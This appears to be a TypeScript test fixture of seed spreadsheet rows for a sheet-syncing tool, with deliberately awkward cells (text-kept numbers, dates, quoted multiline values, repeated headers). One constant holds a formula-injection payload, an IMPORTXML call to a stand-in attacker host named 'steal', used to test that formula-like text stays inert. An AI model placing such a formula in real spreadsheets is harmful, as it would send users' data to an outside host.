// Spreadsheets the `lacralo sheet` tests start from: staff's data as they typed it, with the
// cells that go wrong when a tool is careless (formula-like text, numbers kept as text, dates).
import { headerRow } from '../../../shared/workbook/tabs'
import type { SeedCell } from './fake-sheets-server'

/** Text that would be a formula if Sheets evaluated it. */
export const HOSTILE = '=IMPORTXML("http://evil.example/steal","//a")'

/** Events as staff typed them: a formula-like title kept as text, a date, a time, a boolean. */
export const EVENTS_ROWS: SeedCell[][] = [
  headerRow('Events'),
  [
    'caribnog-25',
    `'${HOSTILE}`,
    '2023-03-26',
    '2023-03-28',
    '09:30',
    '17:00',
    'America/Port_of_Spain',
    'Port of Spain',
    'TT',
    'caribbean',
    'technical-community',
    'hybrid',
    'confirmed',
    'https://caribnog.org',
    'en, es',
    'TRUE',
    '\'+1 "quoted", with a comma\nand a second line',
  ],
  [],
  [
    'icann-77',
    "'0042",
    '2023-06-12',
    '',
    '',
    '',
    '',
    'Washington DC',
    'US',
    '',
    '',
    '',
    'tentative',
  ],
]

/** A tab of staff's own: a column without a header, a repeated header, numbers, '@' text. */
export const NOTES_ROWS: SeedCell[][] = [
  ['Who', '', 'Who', 'Amount'],
  ['Ana', 'x', 'again', 12.5],
  ['Luis', '', "'@everyone", "'-5 (text)"],
]
